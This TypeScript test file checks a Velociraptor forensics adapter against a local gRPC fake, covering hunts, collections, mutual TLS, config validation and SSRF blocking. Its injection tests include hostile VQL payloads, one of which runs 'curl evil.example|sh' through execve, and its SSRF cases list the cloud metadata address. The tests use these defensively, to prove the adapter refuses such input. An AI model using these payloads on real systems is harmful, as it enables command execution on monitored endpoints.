import * as grpc from '@grpc/grpc-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseDocument, stringify } from 'yaml';
import {
  type FakeVelociraptor,
  startFakeVelociraptor,
} from '../../../../infra/local/sandbox/providers/velociraptor';
import {
  createVelociraptorTestPki,
  type VelociraptorTestPki,
} from '../../../../infra/local/sandbox/providers/velociraptor-pki';
import {
  createVelociraptorAdapter,
  parseApiClientYaml,
  VelociraptorConfigError,
  VQL,
} from '../../../../shared/integrations/adapters/velociraptor';
import {
  OutboundAuthError,
  OutboundNotFoundError,
  OutboundTimeoutError,
  SsrfBlockedError,
  UpstreamError,
} from '../../../../shared/integrations/http/errors';
import { createOutboundClient } from '../../../../shared/integrations/http/outbound';
import type { AdapterContext } from '../../../../shared/integrations/ports';
import { BadRequestError } from '../../../../shared/platform/errors';
import { registerTestHostname } from '../../../setup/network-guard';

async function rejection(promise: Promise<unknown>): Promise<Error> {
  try {
    await promise;
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected the call to fail');
}

function contextFor(apiClientYaml: string, settings: AdapterContext['settings'] = {}): AdapterContext {
  return {
    http: createOutboundClient({ retry: { attempts: 1 } }),
    credentials: { api_client_yaml: apiClientYaml },
    settings,
    now: Date.now,
  };
}

/** The YAML with some fields replaced, as a user might paste a mixed-up file. */
function withFields(apiClientYaml: string, fields: Record<string, string | undefined>): string {
  const data = parseDocument(apiClientYaml).toJS() as Record<string, string>;
  for (const [key, value] of Object.entries(fields)) {
    if (value === undefined) delete data[key];
    else data[key] = value;
  }
  return stringify(data);
}

/** Base64 lines of every PEM block in the file: none may ever appear in a message. */
function keyMaterialLines(apiClientYaml: string): string[] {
  return apiClientYaml
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => /^[A-Za-z0-9+/=]{40,}$/.test(line));
}

const allowLoopback = { ssrf: { allowList: ['127.0.0.1'] }, timeoutMs: 5_000 };

describe('Velociraptor adapter against the local gRPC fake', () => {
  let fake: FakeVelociraptor;
  let rogue: VelociraptorTestPki;
  const adapter = createVelociraptorAdapter(allowLoopback);

  beforeAll(async () => {
    [fake, rogue] = await Promise.all([
      startFakeVelociraptor(),
      createVelociraptorTestPki({ caName: 'Some other CA', clientName: 'intruder' }),
    ]);
  });
  afterAll(async () => {
    await fake.close();
  });

  describe('endpoint lookup', () => {
    it('lists every client with hostname, OS, last-seen time and labels', async () => {
      const clients = await adapter.listClients(contextFor(fake.apiClientYaml), { limit: 50 });

      expect(clients.map((c) => c.clientId)).toEqual([
        'C.4f2a9c1e7b3d5a60',
        'C.9e81b2f4c6d0a713',
        'C.1b7d3e5f9a2c4e86',
      ]);
      expect(clients[1]).toMatchObject({
        hostname: 'WIN-DC01',
        fqdn: 'win-dc01.corp.example.com',
        os: 'windows',
        agentVersion: '0.7.1',
        lastIp: '10.20.0.10:49811',
        labels: ['prod', 'dc'],
      });
      expect(Date.parse(clients[1]?.lastSeenAt ?? '')).toBeGreaterThan(Date.now() - 10 * 60 * 1000);
      const call = fake.calls.at(-1);
      expect(call).toMatchObject({ user: 'vigil-test', vql: [VQL.listClients(50, false)], env: {} });
    });

    it('passes the search to clients() as an env variable and honours the limit', async () => {
      const ctx = contextFor(fake.apiClientYaml);

      const prod = await adapter.listClients(ctx, { search: 'label:prod', limit: 10 });
      const one = await adapter.listClients(ctx, { search: 'label:prod', limit: 1 });

      expect(prod.map((c) => c.hostname)).toEqual(['web-01', 'WIN-DC01']);
      expect(one).toHaveLength(1);
      expect(fake.calls.at(-1)).toMatchObject({
        vql: [
          'SELECT client_id, os_info.hostname AS Hostname, os_info.fqdn AS Fqdn, os_info.system AS OS, os_info.release AS Release, agent_information.version AS AgentVersion, first_seen_at, last_seen_at, last_ip, labels FROM clients(search=Search) LIMIT 1',
        ],
        env: { Search: 'label:prod' },
      });
    });

    it('gets one client by id', async () => {
      const client = await adapter.getClient(contextFor(fake.apiClientYaml), 'C.4f2a9c1e7b3d5a60');

      expect(client).toMatchObject({ clientId: 'C.4f2a9c1e7b3d5a60', hostname: 'web-01', os: 'linux' });
      expect(fake.calls.at(-1)?.env).toEqual({ ClientId: 'C.4f2a9c1e7b3d5a60' });
    });

    it('reports a client the server does not know as not found', async () => {
      const error = await rejection(adapter.getClient(contextFor(fake.apiClientYaml), 'C.00000000000000aa'));

      expect(error).toBeInstanceOf(OutboundNotFoundError);
      expect(error.message).toContain('C.00000000000000aa');
    });

    it('refuses a malformed client id without calling the server', async () => {
      const before = fake.calls.length;

      const error = await rejection(adapter.getClient(contextFor(fake.apiClientYaml), "C.1' OR 1=1"));

      expect(error).toBeInstanceOf(BadRequestError);
      expect(fake.calls.length).toBe(before);
    });
  });

  describe('collections and hunts', () => {
    it('schedules a collection and returns the flow id the server assigned', async () => {
      const { flowId } = await adapter.collectArtifact(contextFor(fake.apiClientYaml), {
        clientId: 'C.9e81b2f4c6d0a713',
        artifacts: ['Windows.System.Pslist'],
        parameters: { ProcessRegex: 'powershell' },
        urgent: true,
      });

      expect(flowId).toMatch(/^F\.[A-Z2-7]{13}$/);
      expect(fake.flows.at(-1)).toEqual({
        flowId,
        clientId: 'C.9e81b2f4c6d0a713',
        artifacts: ['Windows.System.Pslist'],
        spec: { 'Windows.System.Pslist': { ProcessRegex: 'powershell' } },
        urgent: true,
      });
      expect(fake.calls.at(-1)).toMatchObject({
        vql: [VQL.collect(true)],
        env: {
          ClientId: 'C.9e81b2f4c6d0a713',
          ArtifactsJson: '["Windows.System.Pslist"]',
          SpecJson: '{"Windows.System.Pslist":{"ProcessRegex":"powershell"}}',
        },
      });
    });

    it('turns a refused collection (null flow, reason in the log) into a typed error', async () => {
      const ctx = contextFor(fake.apiClientYaml);

      const unknownClient = await rejection(
        adapter.collectArtifact(ctx, { clientId: 'C.00000000000000aa', artifacts: ['Generic.Client.Info'] }),
      );
      const unknownArtifact = await rejection(
        adapter.collectArtifact(ctx, { clientId: 'C.4f2a9c1e7b3d5a60', artifacts: ['Custom.Not.Installed'] }),
      );

      expect(unknownClient).toBeInstanceOf(OutboundNotFoundError);
      expect(unknownArtifact.message).toContain('Unknown artifact Custom.Not.Installed');
      expect((unknownArtifact as UpstreamError).kind).toBe('bad_request');
    });

    it('creates a running hunt and reads its results per endpoint', async () => {
      const ctx = contextFor(fake.apiClientYaml);

      const { huntId } = await adapter.createHunt(ctx, {
        artifacts: ['Windows.System.Pslist'],
        description: 'IR-1234: encoded PowerShell',
        expiresInSeconds: 3_600,
      });
      const rows = await adapter.huntResults(ctx, { huntId, artifact: 'Windows.System.Pslist', limit: 100 });

      expect(huntId).toMatch(/^H\.[A-Z2-7]{13}$/);
      const hunt = fake.hunts.find((h) => h.huntId === huntId);
      expect(hunt).toMatchObject({ description: 'IR-1234: encoded PowerShell', creator: 'vigil-test' });
      const expiresInSeconds = (hunt?.expires ?? 0) / 1_000_000 - Date.now() / 1000;
      expect(expiresInSeconds).toBeGreaterThan(3_500);
      expect(expiresInSeconds).toBeLessThan(3_700);
      expect(new Set(rows.map((row) => row.ClientId))).toEqual(
        new Set(['C.4f2a9c1e7b3d5a60', 'C.9e81b2f4c6d0a713', 'C.1b7d3e5f9a2c4e86']),
      );
      const dcRows = rows.filter((row) => row.ClientId === 'C.9e81b2f4c6d0a713');
      expect(dcRows.map((row) => row.Name)).toEqual(['System', 'powershell.exe']);
      expect(dcRows[1]?.FlowId).toMatch(/^F\.[A-Z2-7]{13}\.H$/);
      expect(fake.calls.at(-1)).toMatchObject({
        vql: [VQL.huntResults(100)],
        env: { HuntId: huntId, Artifact: 'Windows.System.Pslist' },
      });
    });

    it('reads an existing hunt up to the limit', async () => {
      const rows = await adapter.huntResults(contextFor(fake.apiClientYaml), {
        huntId: 'H.CR7D4S1Q9N8KU',
        artifact: 'Windows.System.Pslist',
        limit: 3,
      });

      expect(rows).toHaveLength(3);
      expect(rows[0]).toMatchObject({ ClientId: 'C.4f2a9c1e7b3d5a60', Pid: 4, Name: 'systemd' });
    });

    it('reports a user without collect permissions as an auth error', async () => {
      const readOnly = await startFakeVelociraptor({ pki: fake.pki, readOnly: true });
      try {
        const error = await rejection(
          adapter.createHunt(contextFor(readOnly.apiClientYaml), {
            artifacts: ['Generic.Client.Info'],
            description: 'inventory',
          }),
        );

        expect(error).toBeInstanceOf(OutboundAuthError);
        expect(error.message).toContain('Permission denied');
      } finally {
        await readOnly.close();
      }
    });
  });

  describe('VQL injection', () => {
    const payloads = {
      search: "x') LIMIT 1 SELECT * FROM execve(argv=['id']) --",
      parameter: "' + execve(argv=['/bin/sh','-c','curl evil.example|sh']) + '",
      description: '"}) AS H FROM scope() SELECT * FROM shell(argv="whoami") //',
    };

    it('sends user values only as env entries, never inside the VQL text', async () => {
      const ctx = contextFor(fake.apiClientYaml);
      const before = fake.calls.length;

      await adapter.listClients(ctx, { search: payloads.search, limit: 5 });
      await adapter.collectArtifact(ctx, {
        clientId: 'C.4f2a9c1e7b3d5a60',
        artifacts: ['Generic.Detection.Yara.Glob'],
        parameters: { PathGlob: payloads.parameter },
      });
      await adapter.createHunt(ctx, {
        artifacts: ['Generic.Client.Info'],
        description: payloads.description,
      });

      const calls = fake.calls.slice(before);
      expect(calls.map((c) => c.vql[0])).toEqual([VQL.listClients(5, true), VQL.collect(false), VQL.hunt]);
      for (const text of calls.flatMap((c) => c.vql)) {
        for (const marker of ['execve', 'shell(', 'evil.example', 'whoami', "'", '"', '--']) {
          expect(text).not.toContain(marker);
        }
      }
      expect(calls[0]?.env.Search).toBe(payloads.search);
      expect(JSON.parse(calls[1]?.env.SpecJson ?? '{}')).toEqual({
        'Generic.Detection.Yara.Glob': { PathGlob: payloads.parameter },
      });
      expect(calls[2]?.env.Description).toBe(payloads.description);
      expect(fake.hunts.at(-1)?.description).toBe(payloads.description);
    });

    it.each([
      ['an artifact name', { artifacts: ["Generic.Client.Info'), execve(argv=['id'"] }],
      ['a parameter name', { artifacts: ['Generic.Client.Info'], parameters: { 'X=1) --': 'y' } }],
    ])('refuses %s that is not a plain identifier, before any call', async (_what, input) => {
      const before = fake.calls.length;

      const error = await rejection(
        adapter.collectArtifact(contextFor(fake.apiClientYaml), { clientId: 'C.4f2a9c1e7b3d5a60', ...input }),
      );

      expect(error).toBeInstanceOf(BadRequestError);
      expect(fake.calls.length).toBe(before);
    });
  });

  describe('mutual TLS', () => {
    it('is refused by the server when the client certificate comes from another CA', async () => {
      const before = fake.calls.length;
      const yaml = withFields(fake.apiClientYaml, {
        client_cert: rogue.client.certPem,
        client_private_key: rogue.client.keyPem,
      });

      const error = await rejection(adapter.listClients(contextFor(yaml), { limit: 1 }));
      const outcome = await adapter.test(contextFor(yaml));

      expect(error).toBeInstanceOf(OutboundAuthError);
      expect(error.message).toContain("refused Vigil's client certificate");
      expect(outcome).toMatchObject({ ok: false, message: error.message });
      expect(fake.calls.length).toBe(before);
    });

    it('is refused by the server when the client presents no certificate at all', async () => {
      const before = fake.calls.length;
      const client = new grpc.Client(
        `ipv4:${fake.address}`,
        grpc.credentials.createSsl(Buffer.from(fake.pki.ca.certPem)),
        { 'grpc.ssl_target_name_override': 'VelociraptorServer' },
      );

      // An empty VQLCollectorArgs is a valid (empty) protobuf message.
      const status = await new Promise<grpc.StatusObject>((resolve) => {
        const call = client.makeServerStreamRequest(
          '/proto.API/Query',
          (value: Buffer) => value,
          (value: Buffer) => value,
          Buffer.alloc(0),
          { deadline: Date.now() + 2_000 },
        );
        call.on('data', () => undefined);
        call.on('error', () => undefined);
        call.on('status', resolve);
      });
      client.close();

      expect(status.code).toBe(grpc.status.UNAVAILABLE);
      expect(fake.calls.length).toBe(before);
    });

    it('refuses a server whose certificate is not signed by the CA in api_client.yaml', async () => {
      const before = fake.calls.length;
      const yaml = withFields(fake.apiClientYaml, { ca_certificate: rogue.ca.certPem });

      const error = await rejection(adapter.listClients(contextFor(yaml), { limit: 1 }));

      expect(error).toBeInstanceOf(OutboundAuthError);
      expect(error.message).toContain('ca_certificate');
      expect(fake.calls.length).toBe(before);
    });

    it('refuses a server whose certificate is not issued to VelociraptorServer', async () => {
      const impostor = await startFakeVelociraptor({ serverName: 'velociraptor.example.com' });
      try {
        const error = await rejection(adapter.listClients(contextFor(impostor.apiClientYaml), { limit: 1 }));

        expect(error).toBeInstanceOf(OutboundAuthError);
        expect(impostor.calls).toHaveLength(0);
      } finally {
        await impostor.close();
      }
    });
  });

  describe('api_client.yaml validation', () => {
    it.each([
      ['is empty', () => '', 'Paste the whole api_client.yaml'],
      [
        'is not YAML (broken on a key line)',
        (yaml: string) => yaml.replace('client_private_key: |', 'client_private_key: "|'),
        'not valid YAML',
      ],
      [
        'lacks the private key',
        (yaml: string) => withFields(yaml, { client_private_key: undefined }),
        '`client_private_key`',
      ],
      [
        'has a truncated private key',
        (yaml: string) => {
          const data = parseDocument(yaml).toJS() as Record<string, string>;
          return withFields(yaml, { client_private_key: data.client_private_key?.slice(0, 300) });
        },
        'not a readable private key',
      ],
      [
        'pairs the certificate with another key',
        (yaml: string) => withFields(yaml, { client_private_key: rogue.client.keyPem }),
        'does not belong to `client_cert`',
      ],
      [
        'has a certificate that is not PEM',
        (yaml: string) => withFields(yaml, { ca_certificate: 'MIIB...' }),
        '`ca_certificate` in api_client.yaml is not a PEM certificate',
      ],
      [
        'has a connection string without a port',
        (yaml: string) => withFields(yaml, { api_connection_string: 'velociraptor.example.com' }),
        'must be host:port',
      ],
    ])('gives a clear error when the file %s, without echoing key material', (_case, mutate, expected) => {
      const broken = mutate(fake.apiClientYaml);

      const error = (() => {
        try {
          parseApiClientYaml(broken);
        } catch (caught) {
          return caught as Error;
        }
        throw new Error('expected a configuration error');
      })();

      expect(error).toBeInstanceOf(VelociraptorConfigError);
      expect(error.message).toContain(expected);
      const serialized = `${error.message} ${JSON.stringify(error)} ${String(error.stack)}`;
      for (const line of [
        ...keyMaterialLines(fake.apiClientYaml),
        ...keyMaterialLines(rogue.client.keyPem),
      ]) {
        expect(serialized).not.toContain(line);
      }
      expect(serialized).not.toContain('PRIVATE KEY-----');
    });

    it('makes test() fail with the same actionable message and no secret', async () => {
      const outcome = await adapter.test(
        contextFor(withFields(fake.apiClientYaml, { client_cert: undefined })),
      );

      expect(outcome.ok).toBe(false);
      expect(outcome.message).toBe('api_client.yaml is missing `client_cert`; paste the complete file.');
    });
  });

  describe('connection host policy (SSRF)', () => {
    const strict = createVelociraptorAdapter({ timeoutMs: 2_000 });
    let unregister: () => void;
    beforeAll(() => {
      unregister = registerTestHostname('velociraptor.innocent.example', '127.0.0.1');
    });
    afterAll(() => unregister());

    it.each([
      ['a loopback address', (port: string) => `127.0.0.1:${port}`, 'address'],
      ['a private address', () => '10.0.0.5:8001', 'address'],
      ['the cloud metadata address', () => '169.254.169.254:8001', 'address'],
      ['an IPv4-mapped loopback', (port: string) => `[::ffff:127.0.0.1]:${port}`, 'address'],
      [
        'a public-looking name that resolves to loopback',
        (port: string) => `velociraptor.innocent.example:${port}`,
        'address',
      ],
      ['localhost', (port: string) => `localhost:${port}`, 'hostname'],
    ])('refuses %s unless allow-listed', async (_what, connection, reason) => {
      const port = fake.address.split(':')[1] ?? '';
      const before = fake.calls.length;
      const yaml = withFields(fake.apiClientYaml, { api_connection_string: connection(port) });

      const error = await rejection(strict.listClients(contextFor(yaml), { limit: 1 }));

      expect(error).toBeInstanceOf(SsrfBlockedError);
      expect((error as SsrfBlockedError).reason).toBe(reason);
      expect(error.message).toContain('api_connection_string');
      expect(fake.calls.length).toBe(before);
    });
  });

  describe('failures', () => {
    it('ends a query that outlives its deadline with a timeout error', async () => {
      const slow = await startFakeVelociraptor({ pki: fake.pki, delayMs: 1_000 });
      const hurried = createVelociraptorAdapter({ ...allowLoopback, timeoutMs: 150 });
      try {
        const started = Date.now();
        const error = await rejection(hurried.listClients(contextFor(slow.apiClientYaml), { limit: 1 }));

        expect(error).toBeInstanceOf(OutboundTimeoutError);
        expect((error as OutboundTimeoutError).timeoutMs).toBe(150);
        expect(Date.now() - started).toBeLessThan(900);
      } finally {
        await slow.close();
      }
    });

    it('reports an unreachable server as a retryable upstream error', async () => {
      const gone = await startFakeVelociraptor({ pki: fake.pki });
      await gone.close();

      const error = await rejection(adapter.listClients(contextFor(gone.apiClientYaml), { limit: 1 }));

      expect(error).toBeInstanceOf(UpstreamError);
      expect((error as UpstreamError).retryable).toBe(true);
    });

    it('reports a user without the api role as an auth error, and test() says so', async () => {
      const denied = await startFakeVelociraptor({ pki: fake.pki, denyApi: true });
      try {
        const ctx = contextFor(denied.apiClientYaml);
        const error = await rejection(adapter.listClients(ctx, { limit: 1 }));
        const outcome = await adapter.test(ctx);

        expect(error).toBeInstanceOf(OutboundAuthError);
        expect(outcome.ok).toBe(false);
        expect(outcome.message).toContain('api role');
      } finally {
        await denied.close();
      }
    });
  });

  describe('test()', () => {
    it('runs a cheap info() query and reports the server version and API user', async () => {
      const outcome = await adapter.test(contextFor(fake.apiClientYaml));

      expect(outcome).toEqual({
        ok: true,
        message: 'Connected to Velociraptor 0.7.1 on velociraptor-server as API user vigil-test.',
        details: { version: '0.7.1', hostname: 'velociraptor-server', apiUser: 'vigil-test' },
      });
      expect(fake.calls.at(-1)?.vql).toEqual([VQL.info]);
    });

    it('fails with a message about the certificates when TLS cannot be established', async () => {
      const outcome = await adapter.test(
        contextFor(withFields(fake.apiClientYaml, { ca_certificate: rogue.ca.certPem })),
      );

      expect(outcome.ok).toBe(false);
      expect(outcome.message).toContain('VelociraptorServer');
      for (const line of keyMaterialLines(fake.apiClientYaml)) expect(outcome.message).not.toContain(line);
    });
  });
});
